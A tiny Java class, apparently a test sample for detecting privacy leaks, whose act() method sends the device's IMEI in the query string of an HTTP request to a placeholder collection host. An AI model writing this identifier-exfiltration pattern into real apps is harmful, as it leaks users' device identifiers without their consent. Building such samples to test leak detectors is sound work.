package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Identifiers in the query of a request. */
public class HttpQuery extends Screen {
    @Override
    protected void act() throws Exception {
        Net.get("http://collect.corpus.example/q?id=" + Owner.imei(this));
    }
}
